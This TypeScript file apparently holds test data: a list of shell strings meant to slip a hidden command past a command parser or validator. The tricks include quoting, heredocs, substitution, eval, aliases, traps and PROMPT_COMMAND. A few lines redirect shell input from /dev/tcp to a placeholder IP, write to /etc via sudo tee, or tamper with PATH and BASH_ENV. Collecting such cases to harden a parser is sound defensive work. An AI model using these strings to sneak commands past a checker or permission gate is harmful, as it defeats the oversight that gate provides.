/** Ways around the reader of commands. */
import { commandLines } from './lines.ts';

/** Ways around the reader that need no other part. */
export const TRICKS = commandLines(String.raw`
l\⏎s; make
ls;make
ls&&make
ls|make
ls&make
ls # a⏎make
ls \# ; make
ls 'a'make'b'; make
"ls" ; "make"
m''ake
m\ake
"make"
'ma'ke
§'make'
§'\x6dake'
§"make"
ma§{x}ke
§{x:-make}
§{x:=make}
§(make)
§(echo make)
eval ls
. ./x
source x
builtin . x
command . x
coproc make
select x in a; do make; done
function f { make; }; f
ls() { make; }; ls
f() { ls; }; f; make
alias l=make; l
cat <<E⏎a⏎E⏎make
cat <<E; make⏎a⏎E
cat <<'E'⏎a⏎E⏎make
cat <<E⏎a\⏎E⏎E⏎make
cat <<-E⏎	a⏎	E⏎make
cat <<A <<B⏎a⏎A⏎b⏎B⏎make
cat <<"A B"⏎a⏎A B⏎make
[ -f a ] ; make
[[ -f a ]] ; make
((1)) ; make
ls <(make)
ls >(make)
ls 5<(make)
ls {fd}<(make)
ls <&-make
echo @(a|§(make))
echo !(a)§(make)
echo {a,§(make)}
echo {a,{b,§(make)}}
echo [§(make)]
echo a[§(make)]
echo ~§(make)
echo "§(make)" 'b'
echo "a§(make)b§(ls)"
echo "§(echo "§(make)")"
echo §(echo \§(make)) §(make)
echo §{x:-§{y:-§(make)}}
echo §{x/§(make)/a}
echo §{x/a/§(make)}
echo §{x:§(make)}
echo §{x:0:§(make)}
echo §{x[§(make)]}
echo §((§(make)))
echo §((1+§(make)))
echo §[§(make)]
((§(make)))
for ((i=§(make);i<1;i++)); do ls; done
[[ §(make) -eq 1 ]]
[[ a =~ §(make) ]]
x=§(make) ls
x[§(make)]=1
x=([§(make)]=1)
read -r §(make)
read -r PATH
read -d -d PATH < a; ls
read -p x -r y; make
printf -v PATH x; ls
printf "%n" x
printf §x a
export PATH=.; ls
export "§x"; ls
declare -x PATH=.; ls
unset PATH; ls
for PATH in .; do ls; done
echo §{PATH:=.}; ls
((PATH=1)); ls
: §((BASH_ENV=1)); ls
{PATH}> /dev/null ls
exec > /etc/x; ls
exec 3<> /etc/x
exec < /dev/tcp/1.2.3.4/80
cat < /dev/tcp/1.2.3.4/80
cat < /dev/udp/1.2.3.4/80
cat < "/dev/tcp/1.2.3.4/80"
cat < §x
trap make EXIT; ls
trap 'make' DEBUG; ls
PS4='§(make)'; set -x; ls
PROMPT_COMMAND=make; ls
time; make
time -p; make
! ! make
if :; then make; fi
while :; do make; break; done
case a in *) make; esac
{ ls;make;}
(ls);make
(ls;make)
( ( make ) )
((make))
§( (make) )
ls; (make) &
ls | (make)
ls | while read -r x; do §x; done
ls | while read -r x; do make; done
ls | xargs -I{} {} a
ls | xargs -i make {}
find . -name a -print0 | xargs -0 make
echo a | tee /etc/x
echo a | sudo tee /etc/x
echo make | bash
echo make | sh -s
bash < a
bash -c "§x"
bash a.sh
sh -c ls
zsh -c ls
python3 <<E⏎print(1)⏎E
ls\
`);
